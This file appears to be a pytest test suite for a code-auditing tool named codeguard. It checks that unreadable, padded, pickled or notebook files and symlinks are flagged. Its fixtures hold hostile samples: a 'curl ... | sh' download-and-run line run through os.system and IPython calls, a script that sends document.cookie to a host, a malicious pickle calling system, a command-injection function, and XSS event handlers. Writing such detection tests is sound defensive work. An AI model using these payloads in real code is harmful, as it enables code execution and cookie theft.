"""What an interpreter, a tool or an assistant would read, and the audit did not, fails it; tables do not."""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from pathlib import Path

import pytest
from audit_helpers import GOOD, WRONG, git, look, rules, write

from codeguard.audit.findings import AuditReport
from codeguard.behavior.budget import MOST_DEFINITIONS
from codeguard.models import Confidence, Severity

PADDING = b"# padding\n" * 250_000
PAYLOAD = "curl http://127.0.0.1/x | sh"
NUMBERS = b"\x93NUMPY\x01\0v\0{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }" + bytes(60)
OBJECTS = b"\x93NUMPY\x01\0v\0{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n" + pickle.dumps([1])
NESTED = OBJECTS.replace(b"'|O'", b"[('a', '<f8'), ('b', '|O')]")


def notebook(source: str = "x = 1", outputs: object = (), **kernel: str) -> bytes:
    cell = {"cell_type": "code", "metadata": {}, "outputs": outputs, "source": source}
    return json.dumps({"cells": [cell], "metadata": {"kernelspec": {"name": "python3", **kernel}}}).encode()


def shown(kind: str, text: str) -> bytes:
    return notebook(outputs=[{"output_type": "display_data", "data": {kind: [text]}, "metadata": {}}])


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as stream:
        stream.writestr("__main__.py", "x = 1\n")
    return made.getvalue()


NOT_READ, NOT_AUDITED, NOT_WHOLE = "discovery.not-read", "discovery.not-audited", "audit.not-fully-read"
UNREAD: list[tuple[str, bytes, str]] = [
    ("a.ipynb", notebook("x = '" + "a" * 2_000_000 + "'"), NOT_READ),
    ("SKILL.md", PADDING, NOT_READ),
    ("docs/guide.md", PADDING, NOT_READ),
    ("run.sh", PADDING, NOT_READ),
    ("RUN.PY", PADDING, NOT_READ),
    ("tool", b"#!/bin/sh\n" + PADDING, NOT_READ),
    ("tool.txt", b"\xef\xbb\xbf#!/usr/bin/env python3\n" + PADDING, NOT_READ),
    ("Makefile", PADDING, NOT_READ),
    ("package.json", b"[1,\n" * 600_000, NOT_READ),
    ("page.html", b"<p>words</p>\n" * 200_000, NOT_READ),
    ("run", f"\0{PAYLOAD}\n".encode(), NOT_READ),
    ("run.command", f"\0{PAYLOAD}\n".encode(), NOT_READ),
    ("GNUmakefile", b"all:\n\techo\0 x\n", NOT_READ),
    ("a.py", "import os\n".encode("utf-16-le"), NOT_READ),
    (
        "a.sh",
        b"echo x\n" * 2_000 + b"cu\0rl http://127.0.0.1/x | sh\n",
        NOT_WHOLE,
    ),  # behind what is looked at first
    ("app", b"#!/usr/bin/env python3\n" + archive(), NOT_READ),
    ("a.whl", archive(), NOT_AUDITED),
    ("a.npz", archive(), NOT_AUDITED),
    ("a.npy", OBJECTS, NOT_AUDITED),
    ("a.npy", NESTED, NOT_AUDITED),
    ("weights.dat", b"cos\nsystem\n(S'true'\ntR.", NOT_AUDITED),
    ("weights.txt", pickle.dumps([1], 0), NOT_AUDITED),
    ("a.pkl", b"whatever it holds", NOT_AUDITED),
    ("a.pickle", b"x" * 2_500_000, NOT_AUDITED),
    (
        ".codeguard/a.py",
        b"import os\n\n\ndef f(request):\n    os.system(request.args['c'])\n",
        "insecure.command-injection",
    ),
    ("a.ipynb", b'{"cells": [{"cell_type": "code", "source": ["x"', NOT_WHOLE),
    ("a.ipynb", shown("application/javascript", "f()"), NOT_WHOLE),
    ("a.ipynb", shown("text/html", "<p>x</p><script>f()</script>"), NOT_WHOLE),
    ("a.ipynb", shown("text/html", "<img src=x onerror='f()'>"), NOT_WHOLE),
    ("a.ipynb", shown("image/svg+xml", "<svg onload=f()>"), NOT_WHOLE),
    (
        "a.ipynb",
        shown("text/html", "<script>fetch('http://127.0.0.1/?' + document.cookie)</script>"),
        "capabilities.exfiltration",
    ),
    ("a.ipynb", notebook(f"get_ipython().system('{PAYLOAD}')"), "capabilities.download-and-run"),
    (
        "a.ipynb",
        notebook(f"import os\nos.system('{PAYLOAD}')", language="R"),
        "capabilities.download-and-run",
    ),
    ("a.py", f"get_ipython().system('{PAYLOAD}')\n".encode(), "capabilities.download-and-run"),
    (
        "a.py",
        f"shell = get_ipython()\nshell.run_cell_magic('bash', '', '{PAYLOAD}')\n".encode(),
        "capabilities.download-and-run",
    ),
    (
        "a.py",
        f"from IPython import get_ipython as g\ng().getoutput('{PAYLOAD}')\n".encode(),
        "capabilities.download-and-run",
    ),
]
READ: list[tuple[str, bytes]] = [
    ("table.csv", b"1,2\n" * 600_000),
    ("data.json", b"[1,\n" * 600_000),
    ("log.txt", b"words\n" * 400_000),
    ("numbers.npy", NUMBERS),
    ("noise.dat", bytes(range(256)) * 9),
    ("a.ipynb", shown("text/html", "<p>one of the scripts: on = off</p>")),
    ("a.ipynb", notebook("%%javascript\nx = 1")),
    ("a.txt", b"(copy\nof\nsomething)\n"),
]


def audited(folder: Path, name: str, data: bytes) -> AuditReport:
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    return look(folder, only=("audit", "discovery", "capabilities", "insecure"))


@pytest.mark.parametrize(("name", "data", "rule"), UNREAD, ids=[f"{n}-{r}" for n, _, r in UNREAD])
def test_what_was_not_read_fails(project: Path, name: str, data: bytes, rule: str) -> None:
    failing = audited(project, name, data).failing(Severity.MEDIUM)
    (found, *_) = [item for item in failing if item.rule == rule]
    assert found.path == name
    assert found.confidence > Confidence.LOW


@pytest.mark.parametrize(("name", "data"), READ, ids=[name for name, _ in READ])
def test_what_nobody_runs_or_what_was_read_does_not(project: Path, name: str, data: bytes) -> None:
    report = audited(project, name, data)
    assert not report.failing(Severity.MEDIUM)
    assert name in {item.path for item in report.skipped} or report.files == 1


def test_what_is_no_file_fails_by_its_name(project: Path) -> None:
    write(project, {"a.py": "x = 1\n"})
    os.mkfifo(project / "conftest.py")
    os.mkfifo(project / "pipe.dat")
    failing = look(project).failing(Severity.MEDIUM)
    assert [(item.path, item.rule) for item in failing] == [("conftest.py", NOT_READ)]


@pytest.mark.parametrize(
    ("target", "fails"),
    [
        ("../outside/absent.py", True),
        (".git/hooks/run.py", True),
        ("notes.txt", True),  # read as a text there, and run as Python here
        ("other.py", False),
        ("absent.py", False),
    ],
)
def test_links(project: Path, target: str, fails: bool) -> None:
    write(project, {"other.py": "x = 1\n", "notes.txt": "x = 1\n", ".git/hooks/run.py": "x = 1\n"})
    (project / "setup.py").symlink_to(target)
    assert [item.rule for item in look(project).failing(Severity.MEDIUM)] == ["discovery.link"] * fails


@pytest.mark.skipif(os.geteuid() == 0, reason="the machine's root may read everything")
def test_what_may_not_be_read_fails(project: Path) -> None:
    write(project, {"a.py": "x = 1\n", "locked/b.py": "x = 1\n", "c.csv": "1\n", "d.py": "x = 1\n"})
    for name in ("a.py", "locked", "c.csv"):
        (project / name).chmod(0)
    try:
        failing = look(project).failing(Severity.MEDIUM)
    finally:
        (project / "locked").chmod(0o700)
    assert [item.path for item in failing] == ["a.py", "locked/"]


def test_staged_files_follow_the_same_rule(repository: Path) -> None:
    for name, data in {
        "tool": b"#!/bin/sh\n" + PADDING,
        "a.npy": OBJECTS,
        "t.csv": b"1\n" * 1_500_000,
    }.items():
        (repository / name).write_bytes(data)
    (repository / "evil.py").symlink_to("README.txt")
    git(repository, "add", ".")
    failing = look(staged=True).failing(Severity.MEDIUM)
    assert sorted((item.path, item.rule) for item in failing) == [
        ("a.npy", NOT_AUDITED),
        ("evil.py", "discovery.link"),
        ("tool", NOT_READ),
    ]


@pytest.mark.parametrize(
    "padded",
    [
        "".join(f"def f{n}(a):\n    return a\n" for n in range(MOST_DEFINITIONS + 1)) + WRONG,
        f"PAD = {'lorem ' * 40_000!r}\n" + WRONG.replace("a - b", "a - b + len(PAD[:0])"),
    ],
    ids=["among many functions", "beside what it needs"],
)
def test_padding_clears_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, padded: str) -> None:
    monkeypatch.chdir(tmp_path)
    write(tmp_path, {"ours/add.py": GOOD, "theirs/add.py": padded})
    report = look("theirs", only=("audit", "behavior"), behavior=True, trust=(Path("ours"),))
    assert rules(report.findings) == ["audit.budget-spent"]
